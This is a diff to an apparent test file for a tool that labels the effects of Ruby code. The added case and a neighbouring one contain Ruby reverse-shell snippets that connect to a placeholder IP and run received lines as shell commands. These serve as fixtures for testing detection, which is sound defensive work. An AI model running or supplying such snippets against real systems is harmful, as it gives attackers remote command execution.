@@ -141,6 +141,12 @@ describe("commands and effects of Ruby", () => {
       ":connect '1.2.3.4' '5'",
     ],
     [
+      "the line that was read last",
+      'c = TCPSocket.open("1.2.3.4", 5)\nloop { c.gets; system($_) }',
+      ":fetch '1.2.3.4' | :run sh",
+      ":connect '1.2.3.4' '5'",
+    ],
+    [
       "commands from a connection",
       'c = TCPSocket.open("1.2.3.4", 5)\nwhile line = c.gets\n  IO.popen(line) { |io| c.print io.read }\nend',
       ":fetch '1.2.3.4' | :run sh",
